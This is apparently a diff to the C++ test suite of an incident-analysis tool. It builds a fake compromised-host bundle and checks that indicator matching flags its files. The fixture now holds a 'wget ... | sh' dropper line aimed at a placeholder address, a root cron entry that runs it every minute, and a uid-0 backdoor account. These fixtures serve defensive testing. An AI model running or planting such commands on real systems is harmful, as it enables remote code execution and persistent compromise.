@@ -111,7 +111,7 @@ void build_incident(temp_bundle& b) {
   fs::create_directories(b.root / "filesystem");
   write_tar(b.root / "filesystem/export.tar",
             {{"tmp/", "", 01777, true},
-             {"tmp/dropper.sh", "x\n"},
+             {"tmp/dropper.sh", "wget -q -O- http://203.0.113.66:4444/x | sh\n"},
              {"var/spool/cron/crontabs/root", "* * * * * /tmp/dropper.sh # 203.0.113.66\n", 0600},
              {"etc/passwd", "root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n"},
              {"usr/local/bin/miner",
@@ -217,6 +217,7 @@ TEST_CASE("an incident bundle: files, persistence, processes, sockets, capture, 
   CHECK(has(r, "ioc_match", "203.0.113.66", "network/network.json"));
   CHECK(has(r, "ioc_match", "evil.example", "capture/capture.pcapng"));
   CHECK(has(r, "ioc_match", "file /var/spool/cron/crontabs/root", "filesystem/export.tar"));
+  CHECK(has(r, "ioc_match", "file /tmp/dropper.sh", "filesystem/export.tar"));  // "ADDR:port"
   CHECK(has(r, "ioc_match", std::string(64, 'b'), "processes/processes.json"));
   CHECK(has(r, "ioc_match", "log line", "logs/stdout.log"));
   // Every finding names its bundle file.
@@ -243,6 +244,16 @@ TEST_CASE("an incident bundle: files, persistence, processes, sockets, capture, 
   CHECK(md.find("# Incident analysis: beacon\\|&lt;x&gt;") != std::string::npos);
   CHECK(md.find("Integrity: **verified**") != std::string::npos);
   CHECK(md.find("\x1b") == std::string::npos);  // the hostile tar name never reaches a terminal
+}
+
+TEST_CASE("an IOC address does not match inside a longer address") {
+  temp_bundle b;
+  build_incident(b);
+  b.seal();
+  analysis_options o;
+  o.iocs = ioc_set::parse("203.0.113.6\n");
+  auto r = analyze_bundle(b.root, o);
+  for (const auto& f : r.findings) CHECK(f.kind != "ioc_match");
 }
 
 TEST_CASE("a tampered bundle is reported as failing verification, and still analysed") {
